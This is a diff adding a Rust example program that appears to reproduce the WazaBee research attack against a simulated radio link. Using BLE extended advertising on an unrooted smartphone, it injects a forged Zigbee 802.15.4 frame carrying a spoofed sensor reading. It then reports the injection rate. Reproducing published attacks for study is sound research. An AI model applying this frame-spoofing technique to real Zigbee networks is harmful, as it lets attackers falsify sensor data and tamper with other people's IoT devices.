@@ -1,0 +1,70 @@
+//! Scenario A (paper §VI-B): injecting forged 802.15.4 frames into a Zigbee
+//! network from an *unrooted* smartphone, using only the public extended
+//! advertising API.
+//!
+//! Run with: `cargo run -p wazabee-examples --bin smartphone_injection`
+
+use wazabee::scenario_a::{EventOutcome, ScenarioA};
+use wazabee_ble::adv::BleAddress;
+use wazabee_chips::Smartphone;
+use wazabee_dot154::{Dot154Channel, MacFrame, Ppdu};
+use wazabee_examples::banner;
+use wazabee_radio::{Link, LinkConfig};
+
+fn main() {
+    banner("Scenario A — smartphone 802.15.4 injection");
+    let target = Dot154Channel::new(14).expect("channel 14");
+    println!("target: {target} (PAN 0x1234, like the paper's testbed)");
+
+    let phone = Smartphone::new(BleAddress::new([0x6B, 0x4F, 0x33, 0x21, 0x8A, 0xC5]), 8);
+    println!(
+        "phone: unrooted BLE 5 device, extended advertising only; controller \
+         access address 0x{:08X}",
+        phone.access_address()
+    );
+
+    let mut scenario = ScenarioA::new(phone, target, 8).expect("Table II channel");
+    println!(
+        "whitening pre-inverted for BLE channel {} (shares {} MHz)",
+        scenario.target_ble_channel().index(),
+        target.center_mhz()
+    );
+
+    // The forged frame: a spoofed sensor reading.
+    let forged = MacFrame::data(0x1234, 0x0063, 0x0042, 99, vec![0x01, 0x39, 0x05]);
+    let ppdu = Ppdu::new(forged.to_psdu()).expect("fits");
+    scenario.arm(&ppdu).expect("frame fits in advertising data");
+    println!("armed: {}-byte forged PSDU in manufacturer data", ppdu.psdu().len());
+
+    banner("advertising campaign");
+    let mut link = Link::new(LinkConfig::office_3m(), 42);
+    let events = 300;
+    let outcomes = scenario.run_events(events, &mut link);
+    let mut injected = 0usize;
+    let mut on_target = 0usize;
+    for (k, o) in outcomes.iter().enumerate() {
+        match o {
+            EventOutcome::Injected(p) => {
+                injected += 1;
+                on_target += 1;
+                if injected <= 3 {
+                    println!(
+                        "event {k:3}: CSA#2 hit the target channel — frame injected \
+                         (FCS {})",
+                        if p.fcs_ok() { "OK" } else { "BAD" }
+                    );
+                }
+            }
+            EventOutcome::NotDecoded => on_target += 1,
+            EventOutcome::WrongChannel(_) => {}
+        }
+    }
+    banner("results");
+    println!("advertising events: {events}");
+    println!("events on the target frequency: {on_target} (expected ≈ {})", events / 37);
+    println!("frames decoded by the Zigbee receiver: {injected}");
+    println!(
+        "injection rate per event: {:.1}% (CSA#2 is uniform over 37 channels → ≈2.7%)",
+        100.0 * injected as f64 / events as f64
+    );
+}
